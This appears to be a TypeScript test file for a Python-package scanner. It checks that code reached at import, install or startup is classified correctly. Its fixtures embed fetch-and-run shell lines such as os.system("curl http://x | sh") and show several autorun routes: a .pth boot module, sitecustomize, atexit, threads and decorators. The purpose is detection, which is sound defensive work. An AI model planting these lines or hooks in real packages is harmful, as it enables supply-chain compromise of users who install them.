// Where code runs is reachability: function bodies called from install/import-time code take that role.
import { beforeAll, describe, expect, it } from 'vitest';
import { extractFeatures, initFeatures } from '../../src/features/index.js';
import { fileRole, parsePython } from '../../src/python/index.js';
import { viewOf } from '../features/view.js';
import { linearGrowth } from '../helpers/scaling.js';

beforeAll(() => initFeatures());

const roleOf = (source: string, name: string, path = 'pkg/__init__.py') =>
  parsePython(source, path).calls.find((c) => c.name === name)?.role;

const PAYLOAD = 'def payload():\n    os.system("curl x | sh")\n';

describe('reachability from load-time roots', () => {
  it('leaves an uncalled function body at runtime', () => {
    expect(roleOf(`import os\n${PAYLOAD}`, 'os.system')).toBe('runtime');
    expect(roleOf(`import os\n${PAYLOAD}if __name__ == '__main__':\n    payload()\n`, 'os.system')).toBe(
      'runtime',
    );
  });

  it.each([
    ['a call at module level', 'payload()\n'],
    ['a chain of calls', 'def start():\n    helper()\ndef helper():\n    payload()\nstart()\n'],
    [
      'threading.Thread(target=...)',
      'import threading\nthreading.Thread(target=payload, daemon=True).start()\n',
    ],
    ['threading.Timer', 'import threading\nthreading.Timer(5, payload).start()\n'],
    ['atexit.register', 'import atexit\natexit.register(payload)\n'],
    ['signal.signal', 'import signal\nsignal.signal(signal.SIGTERM, payload)\n'],
    [
      'an executor',
      'from concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor(1).submit(payload)\n',
    ],
    ['_thread.start_new_thread', 'import _thread\n_thread.start_new_thread(payload, ())\n'],
    ['map', 'list(map(lambda f: f(), [payload]))\nlist(map(payload, [1]))\n'],
    ['a decorator', 'def deco(f):\n    payload()\n    return f\n@deco\ndef g():\n    pass\n'],
    [
      'a class instantiated at import',
      'class C:\n    def __init__(self):\n        self.run()\n    def run(self):\n        payload()\nC()\n',
    ],
  ])('takes the import role when reached through %s', (_, tail) => {
    expect(roleOf(`import os\n${PAYLOAD}${tail}`, 'os.system')).toBe('import');
  });

  it('leaves a function functools.partial only wraps at run time', () => {
    expect(roleOf(`import os, functools\n${PAYLOAD}run = functools.partial(payload)\n`, 'os.system')).toBe(
      'runtime',
    );
  });

  it('says in the evidence why a function body runs at import', () => {
    const source = `import os\n${PAYLOAD}import atexit\natexit.register(payload)\n`;
    const call = parsePython(source, 'pkg/__init__.py').calls.find((c) => c.name === 'os.system');
    expect(call?.via).toMatch(/reached from line 5: atexit\.register\(payload\)/);
  });

  it('treats sitecustomize/usercustomize as startup code (install role)', () => {
    expect(fileRole('sitecustomize.py')).toBe('startup');
    expect(roleOf('import os\nos.system("x")\n', 'os.system', 'sitecustomize.py')).toBe('install');
  });

  it('gives a module imported from a .pth line the startup role', () => {
    const analysis = extractFeatures(
      viewOf(
        {
          'evil-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n',
          'evil_boot.pth': 'import evil._boot\n',
          'evil/__init__.py': '',
          'evil/_boot.py': 'import os\nos.system("curl http://x | sh")\n',
        },
        'wheel',
      ),
    );
    const hit = analysis.evidence.find((e) => e.path === 'evil/_boot.py');
    expect(hit?.context).toBe('install');
  });

  it('gives setup.py helper functions the install role only when something at install time calls them', () => {
    const source =
      "import os\nfrom setuptools import setup, Command\nclass Publish(Command):\n    def run(self):\n        os.system('twine upload dist/*')\ndef build():\n    os.system('make')\nbuild()\nsetup(name='x', cmdclass={'publish': Publish})\n";
    const calls = parsePython(source, 'x-1.0/setup.py').calls.filter((c) => c.name === 'os.system');
    expect(calls.map((c) => c.role)).toEqual(['runtime', 'install']);
  });

  it('treats maintainer scripts outside the installed packages as runtime code', () => {
    const analysis = extractFeatures(
      viewOf({
        'x-1.0/PKG-INFO': 'Metadata-Version: 2.1\nName: x\nVersion: 1.0\n',
        'x-1.0/x/__init__.py': 'import os\nos.system("curl http://a | sh")\n',
        'x-1.0/x/sub/m.py': 'import os\nos.system("curl http://a | sh")\n',
        'x-1.0/dev/release.py': 'import os\nos.system("curl http://a | sh")\n',
        'x-1.0/top.py': 'import os\nos.system("curl http://a | sh")\n',
      }),
    );
    const context = (path: string) => analysis.evidence.find((e) => e.path === path)?.context;
    expect(context('x-1.0/x/__init__.py')).toBe('import');
    expect(context('x-1.0/x/sub/m.py')).toBe('import');
    expect(context('x-1.0/top.py')).toBe('import');
    expect(context('x-1.0/dev/release.py')).toBe('runtime');
  });

  it('stays linear in the number of functions in a call chain', async () => {
    const chain = (n: number) =>
      `import os\n${Array.from({ length: n }, (_, i) => `def f${i}():\n    f${i + 1}()\n`).join('')}def f${n}():\n    os.system('x')\nf0()\n`;
    expect(roleOf(chain(50), 'os.system')).toBe('import');
    const parse = (source: string) => parsePython(source, 'pkg/__init__.py');
    expect(await linearGrowth(chain, parse, 5000)).toBeLessThan(3);
  });
});
